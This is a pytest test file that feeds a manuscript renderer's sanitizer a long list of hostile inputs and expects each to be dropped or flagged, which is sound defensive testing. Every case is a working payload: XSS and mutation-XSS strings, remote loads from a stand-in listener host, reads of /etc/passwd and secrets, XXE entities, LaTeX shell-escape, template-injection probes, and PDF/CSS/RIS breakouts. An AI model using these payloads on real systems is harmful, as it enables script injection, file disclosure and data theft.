"""HTML, links and attributes of a manuscript: what runs, loads or leads astray stays out."""

from __future__ import annotations

from collections.abc import Callable

import pytest
from hostile_kit import Batch, Built, Case, article, check, parameters

CASES = (
    article("script", "A <script>alert(1)</script> B", "content-dropped:5"),
    article("script-block", "<script>\nalert(1)\n</script>\n\nText.", "content-dropped:5"),
    article(
        "script-odd",
        "A <scr<script>ipt>alert (1)</scr</script>ipt> <SCRIPT/x>alert (2)</SCRIPT> B",
        "content-dropped",
    ),
    article("script-src", "A <script src=http://%LISTENER%/a.js></script> B", "content-dropped:5"),
    article("script-unclosed", "A\n\n<script>alert(1)\n\nB", "content-dropped:7"),
    article("iframe", '<iframe src="file:///etc/passwd"></iframe>\n\nText.', "content-dropped:5"),
    article(
        "object-embed",
        '<object data="file://%SECRET%" type="text/plain"></object>\n\n<embed src="http://%LISTENER%/a">\n\nText.',
        "content-dropped:5",
        "content-dropped:7",
    ),
    article(
        "style-element",
        "<style>@import url(http://%LISTENER%/a.css); body{background:url(file://%SECRET%)}</style>\n\nText.",
        "content-dropped:5",
    ),
    article(
        "link-attachment",
        '<link rel=attachment href="file://%SECRET%">\n\n<link rel="stylesheet" href="http://%LISTENER%/a.css">\n\n[file](file://%SECRET%){rel=attachment}',
        "content-dropped:5",
        "link-forbidden:9",
    ),
    article(
        "base",
        '<base href="http://%LISTENER%/">\n\n[a](b.html)',
        "content-dropped:5",
        "link-forbidden:7",
    ),
    article(
        "refresh",
        '<meta http-equiv="refresh" content="0; url=http://%LISTENER%/">\n\nText.',
        "content-dropped:5",
    ),
    article(
        "form",
        '<form action="http://%LISTENER%/"><input name=a type=password><button formaction="javascript:alert(1)">B</button></form>\n\nText.',
        "content-dropped:5",
    ),
    article(
        "svg-inline",
        '<svg><script>alert(1)</script><foreignObject><iframe src="javascript:alert(2)"></iframe></foreignObject><use href="http://%LISTENER%/a.svg#b"/><image href="file://%SECRET%"/></svg>\n\nText.',
        "content-dropped:5",
    ),
    article(
        "math-inline",
        '<math href="javascript:alert(1)"><maction actiontype="statusline" xlink:href="javascript:alert(2)"><mtext><a href="javascript:alert(3)">A</a></mtext></maction></math>\n\nText.',
    ),
    article(
        "event-handlers",
        'A <b onclick="alert(1)" onmouseover=alert(2)>bold</b> [span]{onclick="alert(4)"}\n\n::: {onload="alert(5)"}\nDiv\n:::',
    ),
    article("event-handler-of-an-image", '<img src=x onerror="alert(3)">', "image-missing:5"),
    article(
        "srcset",
        '<picture><source srcset="http://%LISTENER%/a.png 2x"><img srcset="http://%LISTENER%/b.png" src="http://%LISTENER%/c.png"></picture>\n\n<video poster="http://%LISTENER%/d.png" src="file:///etc/passwd"></video>\n\nText.',
        "content-dropped:5",
        "image-missing:5",
    ),
    article(
        "style-attribute",
        '<p style="background:url(http://%LISTENER%/a); width: expression(alert(1)); behavior:url(x); position:fixed">A</p>\n\n[B]{style="background:url(file://%SECRET%)"}\n\n::: {style="content: url(http://%LISTENER%/b)"}\nC\n:::',
        never=("url\\((?!data:|fonts|#)[^)]*a\\)", "expression", 'position:fixed">'),
    ),
    article(
        "markdown-links",
        "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(2)) [c](data:text/html,<script>alert(3)</script>) [d](vbscript:x) [e](file:///etc/passwd) [f](  javascript:alert(4)) [g](java&#115;cript:alert(5)) [h](&#1;javascript:alert(6)) [i](java\\\nscript:alert(7))",
        "link-forbidden:5",
    ),
    article(
        "autolinks",
        "<javascript:alert(1)> <data:text/html;base64,PHNjcmlwdD4=> <file:///etc/passwd> javascript:alert(2)",
        "link-forbidden:5",
    ),
    article(
        "reference-links",
        "[a] and [b][c] and a note[^1].\n\n[a]: javascript:alert(1)\n[c]: data:text/html,alert(2) 'x'\n\n[^1]: [n](javascript:alert(3))",
        "link-forbidden",
    ),
    article(
        "html-links",
        '<a href="javascript:alert(1)">a</a> <a href=" &#x6A;avascript:alert(2)">b</a> <a href="data:text/html;base64,PHNjcmlwdD4=">c</a> <a href="file:///etc/passwd" ping="http://%LISTENER%/" target=_top download>d</a>',
        "link-forbidden:5",
    ),
    article(
        "protocol-relative",
        "[a](//evil.example/x) [b](\\\\evil.example\\x) [c](/etc/passwd) [d](../../../etc/passwd)",
        "link-forbidden:5",
    ),
    article(
        "good-links",
        "[a](https://example.org/a?b=c#d) [b](http://example.org) [c](mailto:a@example.org) [d](doi:10.1000/182) [e](#here) <https://example.org/auto>\n\n# Here {#here}\n\nText.",
        shows=(
            'href="https://example.org/a',
            "mailto:a@example.org",
            "#here",
            "doi.org/10.1000/182",
        ),
    ),
    article(
        "raw-latex",
        '`\\input{/etc/passwd}`{=latex} `#read("/etc/passwd")`{=typst}\n\n```{=latex}\n\\input{%SECRET%}\n\\write18{touch x}\n```\n\n\\input{/etc/passwd}\n\nText.',
        "content-dropped:5",
        "dialect-unsupported:12:1",
    ),
    article(
        "raw-html-attribute",
        '`<script>alert(1)</script>`{=html}\n\n```{=html}\n<iframe srcdoc="<script>alert(2)</script>"></iframe>\n<a href="javascript:alert(3)">x</a>\n```\n\nText.',
        "content-dropped",
        "link-forbidden",
    ),
    article(
        "raw-openxml",
        "```{=openxml}\n<w:p/>\n```\n\n```{=jats}\n<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>\n```\n\nText.",
        "content-dropped:5",
        "content-dropped:9",
    ),
    article(
        "includes",
        '```{.include}\n/etc/passwd\n```\n\n!include /etc/passwd\n\n``` {include="%SECRET%"}\n```\n\n``` {.python startFrom="1" file="/etc/passwd"}\n```\n\n{{% include "/etc/passwd" %}} <!--#include file="/etc/passwd" --> <?php readfile("/etc/passwd") ?> <%= File.read("/etc/passwd") %>',
        "dialect-unsupported:17",
    ),
    article(
        "entities",
        "A <!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]> &b; <![CDATA[ <script>alert (1)</script> ]]> B",
    ),
    article(
        "odd-attributes",
        '::: {.a style="position:fixed" data-x="javascript:alert (1)" src="http://%LISTENER%/a" href="file:///etc/passwd" srcdoc="<script>" contenteditable=true}\nText\n:::\n\n[S]{href="javascript:alert(2)" xlink:href="x" formaction="y" background="http://%LISTENER%/b"}',
    ),
    article(
        "bait-classes",
        '::: {#nashr-body .query}\nA\n:::\n\n::: {#footnotes .footnotes role="doc-endnotes"}\nB\n:::\n\n::: {#nashr-field-title.en}\nC\n:::\n\nD[^1] [E]{.citation #cite-1}\n\n[^1]: Note.',
        "id-duplicate:5",
        "id-duplicate:13",
        "id-duplicate:17",
    ),
    article(
        "html-unclosed",
        "<div><table><tr><td><p>A\n\nB </section></main></body></html> C\n\nE",
        shows=("A",),
    ),
    article(
        "html-comment-unclosed",
        "<div><table><tr><td><p>A\n\nB </section></main></body></html> C\n\n<!-- D\n\nE",
        "block-unclosed:9",
    ),
    article(
        "html-comment",
        "A <!-- sual: <script>alert(1)</script> --> B <!--> <script>alert(2)</script> --> C",
    ),
    article(
        "template-element",
        '<template><script>alert(1)</script></template><noscript><p title="</noscript><img src=x onerror=alert(2)>"></noscript><plaintext>A',
    ),
    article(
        "mutation",
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></style></mglyph></table></mtext></math>\n\n<svg></p><style><a id="</style><img src=1 onerror=alert(2)>">\n\nText.',
        "block-unclosed:5",
    ),
    article(
        "mutation-in-style",
        '<math><mtext><table><mglyph><style><a id="</style><img src=1 onerror=alert(1)>"></style></mglyph></table></mtext></math>\n\n<svg></p><style><a id="</style><img src=1 onerror=alert(2)>">\n\nText.',
        "text-lost:9",
    ),
    article(
        "jinja",
        "{{ 7*7 }} {% include '/etc/passwd' %} {{ ''.__class__.__mro__ }} {# x #}",
        "dialect-unsupported:2",
        "dialect-unsupported:3",
        "dialect-unsupported:6",
        front='title: "{{ 7*7 }} {% include \'/etc/passwd\' %}"\nabstract: "{{ config }}{{ 9*9 }}"',
    ),
    article(
        "title-breakout",
        "Text.",
        front='title: "</title></script><script>alert (1)</script> & <b>T</b>"\nshort-title: "</style><script>alert (2)</script>"\nkeywords: ["</script><script>alert (3)</script>"]\nauthors:\n  - family: "</script><script>alert (4)</script>"',
        shows=("Text",),
    ),
    article(
        "css-breakout",
        "Text.",
        front='title: T\nshort-title: "a\\" } @page { background: url(http://%LISTENER%/a) } /* \\\\ */ */ \\n \\\\A \'"\nauthors:\n  - family: "x\\\\\\" ; } body { display: none } /*"',
        shows=("Text",),
    ),
    article(
        "pdf-breakout",
        "Text.",
        front='title: ")) /OpenAction << /S /JavaScript /JS (app.alert(1)) >> ("\nauthors:\n  - family: "\\\\) /URI (http://%LISTENER%/) (\\\\"\nkeywords: ["]]> <?xpacket end=\\"w\\"?> <rdf:li>", ") >> endobj"]',
        shows=("Text",),
    ),
    article(
        "ris-breakout",
        "Text.",
        front='title: "A}, url = {javascript:x}\\nER  - \\nTY  - JOUR"\nauthors:\n  - {family: "F}\\n}\\n@book{evil, title = {E}", given: "G\\nAU  - Evil"}\nkeywords: ["k\\nUR  - file:///etc/passwd"]',
        shows=("Text",),
    ),
    article(
        "front-addresses",
        "Text.",
        "value-invalid:3",
        "value-invalid:7",
        "value-invalid:8",
        "value-invalid:11",
        "value-invalid:13",
        front='title: T\nlicense: "javascript:alert(1)"\nauthors:\n  - family: F\n    given: G\n    orcid: "javascript:alert(1)"\n    email: "a@b.org\\"><script>alert(1)</script>"\naffiliations:\n  - {id: a, name: A,\n     ror: "javascript:alert(1)"}\nfunding:\n  - {funder: F, id: "data:text/html,x"}\ndoi: "10.1/<script>alert(1)</script>"',
    ),
    article(
        "front-markup",
        "Text.",
        "content-dropped",
        "link-forbidden",
        "dialect-unsupported",
        front='title: "T <script>alert(1)</script> [x](javascript:alert(2))"\nabstract: |\n  <iframe src="http://%LISTENER%/"></iframe> <img src="file:///etc/passwd">\nacknowledgements: "[x](data:text/html,y) <b onclick=alert(3)>B</b>"\nconflict-of-interest: "`\\\\input{/etc/passwd}`{=latex}"',
    ),
    article(
        "table-spans",
        "<table><tr><td colspan=1000000 rowspan=1000000>A</td></tr></table>\n\nText.",
        "content-dropped",
    ),
)


@pytest.mark.parametrize(("case", "batch"), parameters("html", CASES))
def test_hostile_html(case: Case, batch: Batch, built: Callable[[Batch], Built]) -> None:
    check(built(batch), case)
